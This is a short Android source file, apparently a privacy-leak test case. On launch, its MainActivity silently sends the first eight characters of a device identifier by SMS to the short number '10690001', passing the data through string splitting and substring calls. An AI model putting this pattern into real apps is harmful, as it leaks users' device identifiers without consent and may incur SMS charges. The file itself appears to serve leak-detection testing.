package cn.shanhai.substring;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String[] parts = ("v1;" + Device.id(this)).split(";");
    SmsManager.getDefault().sendTextMessage("10690001", null, parts[1].substring(0, 8).trim(), null, null);
  }
}
